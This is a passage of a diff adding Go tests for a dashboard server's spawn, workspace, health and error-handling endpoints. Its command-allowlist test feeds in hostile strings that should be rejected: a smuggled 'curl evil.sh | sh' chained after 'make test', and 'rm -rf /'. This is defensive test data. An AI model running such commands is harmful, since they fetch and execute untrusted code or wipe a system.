@@ -2,14 +2,23 @@ package dashboard
 
 import (
 	"bytes"
+	"context"
 	"encoding/json"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"slices"
+	"sort"
+	"strings"
 	"testing"
+	"time"
 
+	"github.com/sergeknystautas/schmux/internal/api/contracts"
 	"github.com/sergeknystautas/schmux/internal/config"
+	"github.com/sergeknystautas/schmux/internal/detect"
 	"github.com/sergeknystautas/schmux/internal/github"
 	"github.com/sergeknystautas/schmux/internal/session"
 	"github.com/sergeknystautas/schmux/internal/state"
@@ -162,7 +171,7 @@ func TestResolveQuickLaunchByName(t *testing.T) {
 	if err := os.MkdirAll(filepath.Join(ws.Path, ".schmux"), 0755); err != nil {
 		t.Fatalf("failed to create workspace config dir: %v", err)
 	}
-	configContent := `{"quick_launch":[{"name":"Run","command":"echo run"},{"name":"Fix","target":"promptable","prompt":"do it"}]}`
+	configContent := `{"quick_launch":[{"name":"Run","command":"echo run"},{"name":"Fix","target":"promptable","prompt":"do it"},{"name":"Ticket","target":"promptable","prompt":"fix {{ticket}} in {{ area }}"}]}`
 	if err := os.WriteFile(filepath.Join(ws.Path, ".schmux", "config.json"), []byte(configContent), 0644); err != nil {
 		t.Fatalf("failed to write config.json: %v", err)
 	}
@@ -171,7 +180,7 @@ func TestResolveQuickLaunchByName(t *testing.T) {
 	}
 	wm.RefreshWorkspaceConfig(ws)
 
-	resolved, err := server.resolveQuickLaunchByName(ws.ID, "Run")
+	resolved, err := server.resolveQuickLaunchByName(ws.ID, "Run", nil)
 	if err != nil {
 		t.Fatalf("expected resolve to succeed: %v", err)
 	}
@@ -179,13 +188,53 @@ func TestResolveQuickLaunchByName(t *testing.T) {
 		t.Fatalf("expected command-based quick launch, got %+v", resolved)
 	}
 
-	resolved, err = server.resolveQuickLaunchByName(ws.ID, "Fix")
+	resolved, err = server.resolveQuickLaunchByName(ws.ID, "Fix", nil)
 	if err != nil {
 		t.Fatalf("expected resolve to succeed: %v", err)
 	}
 	if resolved.Target != "promptable" || resolved.Prompt == "" {
 		t.Fatalf("expected promptable quick launch, got %+v", resolved)
 	}
+
+	if _, err := server.resolveQuickLaunchByName(ws.ID, "Ticket", map[string]string{"ticket": "ABC-1"}); err == nil {
+		t.Fatal("expected error for missing variable")
+	}
+	resolved, err = server.resolveQuickLaunchByName(ws.ID, "Ticket", map[string]string{"ticket": "ABC-1", "area": "auth"})
+	if err != nil {
+		t.Fatalf("expected resolve to succeed: %v", err)
+	}
+	if resolved.Prompt != "fix ABC-1 in auth" {
+		t.Fatalf("expected variables to be substituted, got %q", resolved.Prompt)
+	}
+}
+
+func TestExpandQuickLaunchVariables(t *testing.T) {
+	tests := []struct {
+		name    string
+		text    string
+		values  map[string]string
+		want    string
+		wantErr bool
+	}{
+		{name: "no placeholders", text: "npm test", want: "npm test"},
+		{name: "single", text: "review {{ticket}}", values: map[string]string{"ticket": "X-1"}, want: "review X-1"},
+		{name: "repeated", text: "{{a}} and {{a}}", values: map[string]string{"a": "b"}, want: "b and b"},
+		{name: "spaces inside braces", text: "{{ a }}", values: map[string]string{"a": "b"}, want: "b"},
+		{name: "missing", text: "{{a}} {{b}}", values: map[string]string{"a": "x"}, wantErr: true},
+		{name: "empty value", text: "{{a}}", values: map[string]string{"a": "  "}, wantErr: true},
+		{name: "extra values ignored", text: "plain", values: map[string]string{"a": "x"}, want: "plain"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := expandQuickLaunchVariables(tt.text, tt.values)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("expandQuickLaunchVariables() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if got != tt.want {
+				t.Fatalf("expandQuickLaunchVariables() = %q, want %q", got, tt.want)
+			}
+		})
+	}
 }
 
 func TestHandleSpawnPost_CommandMissingWorkspace(t *testing.T) {
@@ -216,6 +265,450 @@ func TestHandleSpawnPost_CommandMissingWorkspace(t *testing.T) {
 	}
 }
 
+func TestHandleSpawnPost_ProtectedBranch(t *testing.T) {
+	server, cfg, st := newTestServer(t)
+	cfg.Sessions = &config.SessionsConfig{ProtectedBranches: []string{"main", "release/*"}}
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+
+	spawn := func(req SpawnRequest) int {
+		body, _ := json.Marshal(req)
+		rr := httptest.NewRecorder()
+		server.handleSpawnPost(rr, httptest.NewRequest(http.MethodPost, "/api/spawn", bytes.NewReader(body)))
+		return rr.Code
+	}
+
+	if code := spawn(SpawnRequest{Repo: "https://example.com/repo.git", Branch: "release/1.0", Targets: map[string]int{"promptable": 1}, Prompt: "hi"}); code != http.StatusForbidden {
+		t.Errorf("glob-protected branch: expected 403, got %d", code)
+	}
+	if code := spawn(SpawnRequest{WorkspaceID: "repo-001", Command: "echo hi"}); code != http.StatusForbidden {
+		t.Errorf("workspace on protected branch: expected 403, got %d", code)
+	}
+	if code := spawn(SpawnRequest{WorkspaceID: "missing-workspace", Command: "echo hi", AllowProtected: true, Branch: "main"}); code != http.StatusOK {
+		t.Errorf("allow_protected: expected 200, got %d", code)
+	}
+
+	body, _ := json.Marshal(SpawnRequest{WorkspaceID: "repo-001", Command: "echo hi"})
+	rr := httptest.NewRecorder()
+	server.handleSpawnPost(rr, httptest.NewRequest(http.MethodPost, "/api/spawn", bytes.NewReader(body)))
+	var resp ErrorResponse
+	json.NewDecoder(rr.Body).Decode(&resp)
+	if resp.Code != "protected_branch" || !strings.HasPrefix(resp.Error, `branch "main" is protected`) {
+		t.Errorf("protected branch: got %+v, want code protected_branch", resp)
+	}
+}
+
+func TestHandleSpawnPost_BranchPrefix(t *testing.T) {
+	server, cfg, st := newTestServer(t)
+	repoURL := "https://example.com/repo.git"
+	cfg.SourceCodeManagement = config.SourceCodeManagementGitWorktree
+	cfg.Repos = []config.Repo{{Name: "repo", URL: repoURL, BranchPrefixRegex: "(feature|fix)/"}}
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: repoURL, Branch: "legacy", Path: t.TempDir()})
+
+	spawn := func(branch string) (int, ErrorResponse) {
+		body, _ := json.Marshal(SpawnRequest{Repo: repoURL, Branch: branch, Targets: map[string]int{"promptable": 1}, Prompt: "hi"})
+		rr := httptest.NewRecorder()
+		server.handleSpawnPost(rr, httptest.NewRequest(http.MethodPost, "/api/spawn", bytes.NewReader(body)))
+		var resp ErrorResponse
+		json.NewDecoder(rr.Body).Decode(&resp)
+		return rr.Code, resp
+	}
+
+	if code, resp := spawn("wip-thing"); code != http.StatusBadRequest || resp.Code != "branch_prefix" || !strings.HasPrefix(resp.Error, "new branch") || !strings.Contains(resp.Error, "(feature|fix)/") {
+		t.Errorf("new unprefixed branch: got %d %+v, want 400 branch_prefix naming the regex", code, resp)
+	}
+	// An existing branch passes the prefix check and reaches the worktree conflict check
+	if code, resp := spawn("legacy"); code != http.StatusConflict || resp.Code != "branch_conflict" || strings.HasPrefix(resp.Error, "branch_conflict") {
+		t.Errorf("existing unprefixed branch: got %d %+v, want 409 branch_conflict", code, resp)
+	}
+}
+
+func TestHandleSpawnPost_CommandAllowlist(t *testing.T) {
+	server, cfg, _ := newTestServer(t)
+	cfg.AccessControl = &config.AccessControlConfig{CommandAllowlist: []string{"make (test|lint)", "npm run .+"}}
+	cfg.RunTargets = append(cfg.RunTargets, config.RunTarget{Name: "cleanup", Type: config.RunTargetTypeCommand, Command: "rm -rf build"})
+
+	spawn := func(req SpawnRequest) int {
+		body, _ := json.Marshal(req)
+		rr := httptest.NewRecorder()
+		server.handleSpawnPost(rr, httptest.NewRequest(http.MethodPost, "/api/spawn", bytes.NewReader(body)))
+		return rr.Code
+	}
+
+	if code := spawn(SpawnRequest{WorkspaceID: "missing-workspace", Command: "make test"}); code != http.StatusOK {
+		t.Errorf("allowed command: expected 200, got %d", code)
+	}
+	if code := spawn(SpawnRequest{WorkspaceID: "missing-workspace", Command: "make test; curl evil.sh | sh"}); code != http.StatusForbidden {
+		t.Errorf("command with extra shell: expected 403, got %d", code)
+	}
+	if code := spawn(SpawnRequest{Repo: "https://example.com/repo.git", Branch: "feature", Targets: map[string]int{"cleanup": 1}}); code != http.StatusForbidden {
+		t.Errorf("command target: expected 403, got %d", code)
+	}
+
+	body, _ := json.Marshal(SpawnRequest{WorkspaceID: "missing-workspace", Command: "rm -rf /"})
+	rr := httptest.NewRecorder()
+	server.handleSpawnPost(rr, httptest.NewRequest(http.MethodPost, "/api/spawn", bytes.NewReader(body)))
+	var resp ErrorResponse
+	json.NewDecoder(rr.Body).Decode(&resp)
+	if resp.Code != "command_not_allowed" || resp.Error != `command "rm -rf /" is not permitted by access_control.command_allowlist` {
+		t.Errorf("rejected command: got %+v, want code command_not_allowed", resp)
+	}
+}
+
+func TestHandleSpawnDefault(t *testing.T) {
+	server, cfg, _ := newTestServer(t)
+
+	spawnDefault := func(query string) int {
+		rr := httptest.NewRecorder()
+		server.handleSpawnDefault(rr, httptest.NewRequest(http.MethodPost, "/api/spawn-default"+query, nil))
+		return rr.Code
+	}
+
+	if code := spawnDefault("?repo=https://example.com/repo.git&branch=feature"); code != http.StatusBadRequest {
+		t.Errorf("without default_spawn: expected 400, got %d", code)
+	}
+
+	cfg.DefaultSpawn = &config.DefaultSpawnConfig{Targets: map[string]int{"claude": 2, "codex": 1}}
+	cfg.Sessions = &config.SessionsConfig{ProtectedBranches: []string{"main"}}
+	if code := spawnDefault("?branch=feature"); code != http.StatusBadRequest {
+		t.Errorf("missing repo: expected 400, got %d", code)
+	}
+	// Goes through the regular spawn checks: a protected branch is refused before anything spawns.
+	if code := spawnDefault("?repo=https://example.com/repo.git&branch=main&prompt=hi"); code != http.StatusForbidden {
+		t.Errorf("protected branch: expected 403, got %d", code)
+	}
+
+	rr := httptest.NewRecorder()
+	server.handleSpawnDefault(rr, httptest.NewRequest(http.MethodGet, "/api/spawn-default", nil))
+	if rr.Code != http.StatusMethodNotAllowed {
+		t.Errorf("GET: expected 405, got %d", rr.Code)
+	}
+}
+
+func TestHandleFeatureTarget(t *testing.T) {
+	server, cfg, _ := newTestServer(t)
+
+	put := func(target string) int {
+		rr := httptest.NewRecorder()
+		server.handleNudgenikTarget(rr, httptest.NewRequest(http.MethodPut, "/api/nudgenik/target", strings.NewReader(`{"target":"`+target+`"}`)))
+		return rr.Code
+	}
+
+	// Another edit lands on disk after the server loaded its config; the PUT must keep it.
+	onDisk := *cfg
+	onDisk.ExternalDiffCleanupAfterMs = 1234
+	if err := onDisk.Save(); err != nil {
+		t.Fatal(err)
+	}
+
+	if code := put("promptable"); code != http.StatusOK {
+		t.Fatalf("PUT promptable: expected 200, got %d", code)
+	}
+	if err := onDisk.Reload(); err != nil {
+		t.Fatal(err)
+	}
+	if onDisk.GetNudgenikTarget() != "promptable" || onDisk.GetExternalDiffCleanupAfterMs() != 1234 {
+		t.Errorf("saved config: nudgenik target %q, external_diff_cleanup_after_ms %d", onDisk.GetNudgenikTarget(), onDisk.GetExternalDiffCleanupAfterMs())
+	}
+
+	for _, target := range []string{"command", "missing"} {
+		if code := put(target); code != http.StatusBadRequest {
+			t.Errorf("PUT %s: expected 400, got %d", target, code)
+		}
+	}
+
+	rr := httptest.NewRecorder()
+	server.handleNudgenikTarget(rr, httptest.NewRequest(http.MethodGet, "/api/nudgenik/target", nil))
+	var got FeatureTarget
+	if err := json.NewDecoder(rr.Body).Decode(&got); err != nil || got.Target != "promptable" {
+		t.Errorf("GET: got %+v (%v), want promptable", got, err)
+	}
+
+	if code := put(""); code != http.StatusOK || cfg.GetNudgenikTarget() != "" {
+		t.Errorf("clearing: got %d, target %q", code, cfg.GetNudgenikTarget())
+	}
+}
+
+func TestHandleSessionOutput(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddSession(state.Session{ID: "blocked-1", Status: state.SessionStatusBlocked})
+
+	tests := []struct {
+		method string
+		path   string
+		want   int
+	}{
+		{http.MethodGet, "/api/sessions/missing/output?ansi=true", http.StatusNotFound},
+		{http.MethodGet, "/api/sessions/blocked-1/output", http.StatusConflict},
+		{http.MethodPost, "/api/sessions/blocked-1/output", http.StatusMethodNotAllowed},
+	}
+	for _, tt := range tests {
+		rr := httptest.NewRecorder()
+		server.handleDispose(rr, httptest.NewRequest(tt.method, tt.path, nil))
+		if rr.Code != tt.want {
+			t.Errorf("%s %s: expected %d, got %d", tt.method, tt.path, tt.want, rr.Code)
+		}
+	}
+}
+
+func TestHandleAdoptSession(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+
+	tests := []struct {
+		body string
+		want int
+	}{
+		{`{"workspace_id":"repo-001"}`, http.StatusBadRequest},
+		{`{"tmux_session":"work","workspace_id":"missing"}`, http.StatusNotFound},
+		{`{"tmux_session":"schmux-no-such-session-xyz","workspace_id":"repo-001"}`, http.StatusNotFound},
+	}
+	for _, tt := range tests {
+		rr := httptest.NewRecorder()
+		server.handleAdoptSession(rr, httptest.NewRequest(http.MethodPost, "/api/sessions/adopt", bytes.NewReader([]byte(tt.body))))
+		if rr.Code != tt.want {
+			t.Errorf("%s: expected %d, got %d", tt.body, tt.want, rr.Code)
+		}
+	}
+}
+
+func TestHandleReconcileSessions(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddSession(state.Session{ID: "alive", TmuxSession: "alive", Pid: os.Getpid()})
+
+	rr := httptest.NewRecorder()
+	server.handleReconcileSessions(rr, httptest.NewRequest(http.MethodGet, "/api/sessions/reconcile", nil))
+	if rr.Code != http.StatusMethodNotAllowed {
+		t.Fatalf("expected 405, got %d", rr.Code)
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleReconcileSessions(rr, httptest.NewRequest(http.MethodPost, "/api/sessions/reconcile", nil))
+	if rr.Code != http.StatusOK {
+		t.Fatalf("expected 200, got %d: %s", rr.Code, rr.Body.String())
+	}
+	var resp struct {
+		Dead    []string `json:"dead"`
+		Removed bool     `json:"removed"`
+	}
+	if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil {
+		t.Fatal(err)
+	}
+	if resp.Dead == nil || len(resp.Dead) != 0 || !resp.Removed {
+		t.Errorf("unexpected response: %+v", resp)
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleReconcileSessions(rr, httptest.NewRequest(http.MethodPost, "/api/sessions/reconcile", bytes.NewReader([]byte(`{"keep_dead":`))))
+	if rr.Code != http.StatusBadRequest {
+		t.Errorf("expected 400 for malformed body, got %d", rr.Code)
+	}
+}
+
+func TestHandleTargetTest(t *testing.T) {
+	server, _, _ := newTestServer(t)
+
+	rr := httptest.NewRecorder()
+	server.handleTargetTest(rr, httptest.NewRequest(http.MethodGet, "/api/targets/nope/test", nil))
+	if rr.Code != http.StatusMethodNotAllowed {
+		t.Fatalf("expected 405, got %d", rr.Code)
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleTargetTest(rr, httptest.NewRequest(http.MethodPost, "/api/targets/nope", nil))
+	if rr.Code != http.StatusNotFound {
+		t.Fatalf("expected 404 for missing /test suffix, got %d", rr.Code)
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleTargetTest(rr, httptest.NewRequest(http.MethodPost, "/api/targets/nope/test", nil))
+	if rr.Code != http.StatusNotFound {
+		t.Fatalf("expected 404 for unknown target, got %d: %s", rr.Code, rr.Body.String())
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleTargetTest(rr, httptest.NewRequest(http.MethodPost, "/api/targets/nope/test", strings.NewReader(`{"timeout_ms":`)))
+	if rr.Code != http.StatusBadRequest {
+		t.Errorf("expected 400 for malformed body, got %d", rr.Code)
+	}
+}
+
+func TestHandlePinWorkspace(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+	st.AddWorkspace(state.Workspace{ID: "repo-002", Repo: "https://example.com/repo.git", Branch: "feature", Path: t.TempDir()})
+
+	pin := func(body string) (int, bool) {
+		t.Helper()
+		rr := httptest.NewRecorder()
+		server.handleLinearSync(rr, httptest.NewRequest(http.MethodPost, "/api/workspaces/repo-002/pin", strings.NewReader(body)))
+		var resp struct {
+			Pinned bool `json:"pinned"`
+		}
+		json.NewDecoder(rr.Body).Decode(&resp)
+		return rr.Code, resp.Pinned
+	}
+
+	if code, pinned := pin(""); code != http.StatusOK || !pinned {
+		t.Fatalf("toggle: got code=%d pinned=%v, want 200 true", code, pinned)
+	}
+	if ws, _ := st.GetWorkspace("repo-002"); !ws.Pinned {
+		t.Fatal("expected workspace to be pinned in state")
+	}
+	response, _ := server.buildSessionsResponse()
+	if len(response) != 2 || response[0].ID != "repo-002" || !response[0].Pinned {
+		t.Fatalf("expected pinned workspace first, got %+v", response)
+	}
+
+	if code, pinned := pin(`{"pinned":true}`); code != http.StatusOK || !pinned {
+		t.Errorf("explicit pin: got code=%d pinned=%v, want 200 true", code, pinned)
+	}
+	if code, pinned := pin(""); code != http.StatusOK || pinned {
+		t.Errorf("toggle off: got code=%d pinned=%v, want 200 false", code, pinned)
+	}
+	if response, _ := server.buildSessionsResponse(); response[0].ID != "repo-001" {
+		t.Errorf("expected ID order after unpin, got %s first", response[0].ID)
+	}
+
+	rr := httptest.NewRecorder()
+	server.handleLinearSync(rr, httptest.NewRequest(http.MethodPost, "/api/workspaces/missing/pin", nil))
+	if rr.Code != http.StatusNotFound {
+		t.Errorf("expected 404 for unknown workspace, got %d", rr.Code)
+	}
+}
+
+func TestHandleSpawnCancel(t *testing.T) {
+	server, _, _ := newTestServer(t)
+
+	rr := httptest.NewRecorder()
+	server.handleSpawnCancel(rr, httptest.NewRequest(http.MethodPost, "/api/spawn/nope/cancel", nil))
+	if rr.Code != http.StatusNotFound {
+		t.Fatalf("expected 404 for unknown spawn, got %d", rr.Code)
+	}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	if !server.registerSpawn("spawn-1", cancel) {
+		t.Fatal("expected spawn to register")
+	}
+	if server.registerSpawn("spawn-1", cancel) {
+		t.Fatal("expected duplicate spawn id to be rejected")
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleSpawnCancel(rr, httptest.NewRequest(http.MethodGet, "/api/spawn/spawn-1/cancel", nil))
+	if rr.Code != http.StatusMethodNotAllowed {
+		t.Fatalf("expected 405, got %d", rr.Code)
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleSpawnCancel(rr, httptest.NewRequest(http.MethodPost, "/api/spawn/spawn-1/cancel", nil))
+	if rr.Code != http.StatusOK {
+		t.Fatalf("expected 200, got %d: %s", rr.Code, rr.Body.String())
+	}
+	if ctx.Err() == nil {
+		t.Error("expected spawn context to be cancelled")
+	}
+
+	server.unregisterSpawn("spawn-1")
+	rr = httptest.NewRecorder()
+	server.handleSpawnCancel(rr, httptest.NewRequest(http.MethodPost, "/api/spawn/spawn-1/cancel", nil))
+	if rr.Code != http.StatusNotFound {
+		t.Errorf("expected 404 after spawn finished, got %d", rr.Code)
+	}
+}
+
+func TestHandleSpawnProgress(t *testing.T) {
+	server, _, _ := newTestServer(t)
+	get := func() *httptest.ResponseRecorder {
+		rr := httptest.NewRecorder()
+		server.handleSpawnByID(rr, httptest.NewRequest(http.MethodGet, "/api/spawn/spawn-1/progress", nil))
+		return rr
+	}
+
+	if rr := get(); rr.Code != http.StatusNotFound {
+		t.Fatalf("expected 404 for unknown spawn, got %d", rr.Code)
+	}
+
+	_, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	server.registerSpawn("spawn-1", cancel)
+
+	var progress contracts.SpawnProgressResponse
+	rr := get()
+	if rr.Code != http.StatusOK {
+		t.Fatalf("expected 200, got %d: %s", rr.Code, rr.Body.String())
+	}
+	if err := json.NewDecoder(rr.Body).Decode(&progress); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if progress.SpawnID != "spawn-1" || progress.Stage != "" {
+		t.Errorf("before the first step: got %+v", progress)
+	}
+
+	server.setSpawnProgress("spawn-1", "cloning", "Receiving objects:  45% (450/1000)")
+	rr = get()
+	if err := json.NewDecoder(rr.Body).Decode(&progress); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if progress.Stage != "cloning" || progress.Detail != "Receiving objects:  45% (450/1000)" || progress.UpdatedAt == "" {
+		t.Errorf("after cloning: got %+v", progress)
+	}
+
+	server.unregisterSpawn("spawn-1")
+	server.setSpawnProgress("spawn-1", "fetching", "")
+	if rr := get(); rr.Code != http.StatusNotFound {
+		t.Errorf("expected 404 after spawn finished, got %d", rr.Code)
+	}
+}
+
+func TestHandleWorkspaceLock(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+
+	getLock := func() WorkspaceLockStatus {
+		t.Helper()
+		rr := httptest.NewRecorder()
+		server.handleLinearSync(rr, httptest.NewRequest(http.MethodGet, "/api/workspaces/repo-001/lock", nil))
+		if rr.Code != http.StatusOK {
+			t.Fatalf("GET lock: expected 200, got %d", rr.Code)
+		}
+		var status WorkspaceLockStatus
+		if err := json.NewDecoder(rr.Body).Decode(&status); err != nil {
+			t.Fatal(err)
+		}
+		return status
+	}
+
+	if status := getLock(); status.Locked {
+		t.Fatalf("expected unlocked workspace, got %+v", status)
+	}
+
+	server.setLinearSyncResolveConflictState("repo-001", &LinearSyncResolveConflictState{
+		Type:        "linear_sync_resolve_conflict",
+		WorkspaceID: "repo-001",
+		Status:      "in_progress",
+		StartedAt:   "2026-01-01T00:00:00Z",
+	})
+	if status := getLock(); !status.Locked || status.Holder != "linear_sync_resolve_conflict" || status.StartedAt != "2026-01-01T00:00:00Z" {
+		t.Fatalf("expected lock held by resolve conflict, got %+v", status)
+	}
+
+	rr := httptest.NewRecorder()
+	server.handleLinearSync(rr, httptest.NewRequest(http.MethodDelete, "/api/workspaces/repo-001/lock", nil))
+	if rr.Code != http.StatusOK || !bytes.Contains(rr.Body.Bytes(), []byte(`"released":true`)) {
+		t.Fatalf("DELETE lock: got %d %s", rr.Code, rr.Body.String())
+	}
+	if status := getLock(); status.Locked {
+		t.Fatalf("expected lock to be released, got %+v", status)
+	}
+
+	rr = httptest.NewRecorder()
+	server.handleLinearSync(rr, httptest.NewRequest(http.MethodGet, "/api/workspaces/missing/lock", nil))
+	if rr.Code != http.StatusNotFound {
+		t.Errorf("expected 404 for unknown workspace, got %d", rr.Code)
+	}
+}
+
 func TestHandleSuggestBranch(t *testing.T) {
 	t.Run("disabled when no target configured", func(t *testing.T) {
 		cfg := &config.Config{WorkspacePath: "/tmp/workspaces"}
@@ -356,6 +849,13 @@ func TestHandleHealthz(t *testing.T) {
 		if resp["version"] == nil {
 			t.Error("expected version field in response")
 		}
+
+		if _, err := time.Parse(time.RFC3339, fmt.Sprint(resp["started_at"])); err != nil {
+			t.Errorf("started_at = %v: %v", resp["started_at"], err)
+		}
+		if pid, _ := resp["pid"].(float64); int(pid) != os.Getpid() {
+			t.Errorf("pid = %v, want %d", resp["pid"], os.Getpid())
+		}
 	})
 
 	t.Run("POST request is rejected", func(t *testing.T) {
@@ -370,6 +870,96 @@ func TestHandleHealthz(t *testing.T) {
 	})
 }
 
+func TestHandleSpawnOptions(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	server, cfg, _ := newTestServer(t)
+	cfg.RunTargets = append(cfg.RunTargets, config.RunTarget{Name: "claude", Type: config.RunTargetTypePromptable, Command: "claude", Source: config.RunTargetSourceDetected})
+
+	rr := httptest.NewRecorder()
+	server.handleSpawnOptions(rr, httptest.NewRequest(http.MethodGet, "/api/spawn-options", nil))
+	if rr.Code != http.StatusOK {
+		t.Fatalf("expected 200, got %d: %s", rr.Code, rr.Body.String())
+	}
+	etag := rr.Header().Get("ETag")
+	var resp contracts.SpawnOptionsResponse
+	if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil {
+		t.Fatal(err)
+	}
+	targets := make(map[string]contracts.SpawnTarget)
+	for _, target := range resp.Targets {
+		targets[target.Name] = target
+	}
+
+	if got := targets["claude"]; !got.Promptable || !got.Available || !slices.Contains(got.Models, "claude-sonnet") {
+		t.Errorf("claude = %+v, want an available promptable tool running claude-sonnet", got)
+	}
+	if got := targets["claude-sonnet"]; got.Source != "model" || got.Label != "claude sonnet 4.5" || !got.Available || !got.Configured {
+		t.Errorf("claude-sonnet = %+v, want an available configured model", got)
+	}
+	if got := targets["kimi-thinking"]; got.Configured || len(got.RequiredSecrets) == 0 {
+		t.Errorf("kimi-thinking = %+v, want unconfigured with required secrets", got)
+	}
+	if got := targets["promptable"]; !got.Promptable || !got.Available || got.Source != "user" {
+		t.Errorf("promptable = %+v", got)
+	}
+	if got := targets["command"]; got.Promptable || got.Type != config.RunTargetTypeCommand {
+		t.Errorf("command = %+v", got)
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/api/spawn-options", nil)
+	req.Header.Set("If-None-Match", etag)
+	rr = httptest.NewRecorder()
+	server.handleSpawnOptions(rr, req)
+	if etag == "" || rr.Code != http.StatusNotModified || rr.Body.Len() != 0 {
+		t.Errorf("revalidation with ETag %q: got %d with %d bytes, want 304 and no body", etag, rr.Code, rr.Body.Len())
+	}
+}
+
+func TestErrorResponses(t *testing.T) {
+	server, _, st := newTestServer(t)
+	st.AddWorkspace(state.Workspace{ID: "repo-001", Repo: "https://example.com/repo.git", Branch: "main", Path: t.TempDir()})
+
+	for _, tc := range []struct {
+		name   string
+		call   func(w http.ResponseWriter)
+		status int
+		code   string
+	}{
+		{"method not allowed", func(w http.ResponseWriter) {
+			server.handleHealthz(w, httptest.NewRequest(http.MethodPost, "/api/healthz", nil))
+		}, http.StatusMethodNotAllowed, "method_not_allowed"},
+		{"not found", func(w http.ResponseWriter) {
+			server.handleLinearSync(w, httptest.NewRequest(http.MethodPost, "/api/workspaces/missing/pin", nil))
+		}, http.StatusNotFound, "not_found"},
+		{"bad request", func(w http.ResponseWriter) {
+			server.handleWorkspacesImport(w, httptest.NewRequest(http.MethodPost, "/api/workspaces/import", strings.NewReader("{")))
+		}, http.StatusBadRequest, "bad_request"},
+	} {
+		rr := httptest.NewRecorder()
+		tc.call(rr)
+		if rr.Code != tc.status {
+			t.Errorf("%s: status %d, want %d", tc.name, rr.Code, tc.status)
+		}
+		if ct := rr.Header().Get("Content-Type"); ct != "application/json" {
+			t.Errorf("%s: Content-Type %q, want application/json", tc.name, ct)
+		}
+		var resp ErrorResponse
+		if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil {
+			t.Fatalf("%s: body is not JSON: %v", tc.name, err)
+		}
+		if resp.Error == "" || resp.Code != tc.code {
+			t.Errorf("%s: got %+v, want a message and code %q", tc.name, resp, tc.code)
+		}
+	}
+
+	if got := statusErrorCode(http.StatusTeapot); got != "i_m_a_teapot" {
+		t.Errorf("statusErrorCode(418) = %q", got)
+	}
+	if got := statusErrorCode(599); got != "error" {
+		t.Errorf("statusErrorCode(599) = %q, want error", got)
+	}
+}
+
 func TestHandleUpdate(t *testing.T) {
 	cfg := &config.Config{WorkspacePath: "/tmp/workspaces"}
 	st := state.New("")
@@ -405,3 +995,599 @@ func TestHandleUpdate(t *testing.T) {
 		}
 	})
 }
+
+func TestHandleUpdate_Disabled(t *testing.T) {
+	disabled := false
+	cfg := &config.Config{
+		WorkspacePath: "/tmp/workspaces",
+		AccessControl: &config.AccessControlConfig{AllowSelfUpdate: &disabled},
+	}
+	st := state.New("")
+	statePath := t.TempDir() + "/state.json"
+	wm := workspace.New(cfg, st, statePath)
+	sm := session.New(cfg, st, statePath, wm)
+	server := NewServer(cfg, st, statePath, sm, wm, github.NewDiscovery(), nil)
+	server.versionInfo = versionInfo{Current: "1.0.0", Latest: "2.0.0", UpdateAvailable: true}
+
+	req, _ := http.NewRequest("POST", "/api/update", nil)
+	rr := httptest.NewRecorder()
+	server.handleUpdate(rr, req)
+	if rr.Code != http.StatusForbidden {
+		t.Fatalf("expected status 403, got %d", rr.Code)
+	}
+
+	req, _ = http.NewRequest("GET", "/api/healthz", nil)
+	rr = httptest.NewRecorder()
+	server.handleHealthz(rr, req)
+	var resp map[string]any
+	if err := json.NewDecoder(rr.Body).Decode(&resp); err != nil {
+		t.Fatalf("failed to decode response: %v", err)
+	}
+	if _, ok := resp["update_available"]; ok {
+		t.Errorf("expected update_available to be omitted, got %v", resp)
+	}
+	if _, ok := resp["latest_version"]; ok {
+		t.Errorf("expected latest_version to be omitted, got %v", resp)
+	}
+}
+
+func TestGetFileContent_BinaryAndOversized(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not available")
+	}
+	server, _, _ := newTestServer(t)
+
+	wsPath := t.TempDir()
+	large := strings.Repeat("0123456789abcdef\n", maxDiffFileContentSize/16)
+	files := map[string]string{
+		"small.txt": "hello\n",
+		"large.txt": large,
+		"blob.bin":  "text\x00more",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(wsPath, name), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, args := range [][]string{
+		{"init", "-q", "-b", "main"},
+		{"add", "-A"},
+		{"-c", "user.name=Test", "-c", "user.email=test@test.com", "commit", "-q", "-m", "initial"},
+	} {
+		if out, err := exec.Command("git", append([]string{"-C", wsPath}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+
+	ctx := context.Background()
+	for _, treeish := range []string{"worktree", "HEAD"} {
